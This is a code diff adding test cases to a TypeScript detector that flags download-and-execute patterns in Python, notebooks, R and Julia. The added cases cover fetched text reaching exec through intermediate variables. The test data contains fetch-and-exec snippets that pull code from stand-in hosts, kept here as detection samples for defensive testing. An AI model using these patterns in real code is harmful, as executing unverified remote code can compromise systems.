@@ -136,6 +136,8 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
       nb("%run https://gist.example.com/raw/script.py"),
       py("import requests\nexec(requests.get('https://pastebin.example/raw/abc').text)\n"),
       py("from urllib.request import urlopen\nexec(urlopen('http://x.example/p').read())\n"),
+      py("import requests\nr = requests.get(url)\nsource = r.text\nexec(source)\n"),
+      nb("import requests\nresp = requests.get(url)", "exec(resp.content.decode())"),
       r('source("https://x.example/setup.R")\n'),
       r('devtools::install_github("someone/pkg")\n'),
       jl('include(download("https://x.example/a.jl"))\n'),
@@ -143,6 +145,7 @@ const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
     ignores: [
       sh("curl -o data.csv https://example.org/data.csv\nhead data.csv\n"),
       py("import requests\nr = requests.get('https://api.example.org/data.json')\ndata = r.json()\n"),
+      py("import requests\nr = requests.get(url)\nr = 'print(1)'\nexec(r)\n"),
       sh("chmod +x run.sh\n"),
       nb("!pip install -r requirements.txt"),
     ],
